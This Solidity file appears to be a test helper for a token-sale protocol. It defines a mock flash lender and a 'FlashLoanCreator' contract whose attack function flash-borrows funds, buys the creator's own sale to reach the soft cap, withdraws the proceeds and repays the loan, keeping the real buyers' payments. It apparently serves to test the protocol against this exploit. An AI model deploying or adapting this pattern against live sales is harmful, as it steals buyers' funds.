// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

import {IIncomeShareSplitter} from "../../../contracts/interfaces/IIncomeShareSplitter.sol";
import {IPersonalTokenFactory} from "../../../contracts/interfaces/IPersonalTokenFactory.sol";

/// @notice A flash lender: lends what it holds for the length of one call and takes it back before returning.
contract FlashLender {
    IERC20 public immutable asset;

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function flashLoan(uint256 amount, FlashLoanCreator receiver) external {
        uint256 before = asset.balanceOf(address(this));
        require(asset.transfer(address(receiver), amount), "lend");
        receiver.onFlashLoan(amount);
        require(asset.transferFrom(address(receiver), address(this), amount), "repay");
        require(asset.balanceOf(address(this)) >= before, "flash loan not repaid");
    }
}

/// @notice A creator that is a smart wallet: it launches its token and sale, then, in one transaction, flash-borrows
/// the sale currency, buys `tokens` of its own sale (enough to reach the soft cap, or the whole rest), withdraws the
/// proceeds (the real buyers' payments with its own) and repays the loan, keeping the buyers' money.
contract FlashLoanCreator {
    IIncomeShareSplitter public splitter;
    uint256 private _tokens;

    function launch(
        IPersonalTokenFactory factory,
        IPersonalTokenFactory.LaunchParams calldata params,
        IPersonalTokenFactory.ModuleParams[] calldata modules
    ) external returns (IIncomeShareSplitter) {
        (,, address[] memory moduleAddresses) = factory.launchWithModules(params, modules);
        splitter = IIncomeShareSplitter(moduleAddresses[0]);
        return splitter;
    }

    /// @dev Borrows `loan`, buys `tokens` with it, withdraws the proceeds and repays, all in this call.
    function attack(FlashLender lender, uint256 loan, uint256 tokens) external {
        _tokens = tokens;
        lender.flashLoan(loan, this);
    }

    function onFlashLoan(uint256 amount) external {
        IERC20 asset = IERC20(splitter.terms().paymentAsset);
        asset.approve(address(splitter), amount);
        IIncomeShareSplitter.Allowance memory none;
        splitter.buy(_tokens, none);
        splitter.withdrawProceeds(address(this));
        asset.approve(msg.sender, amount);
    }
}
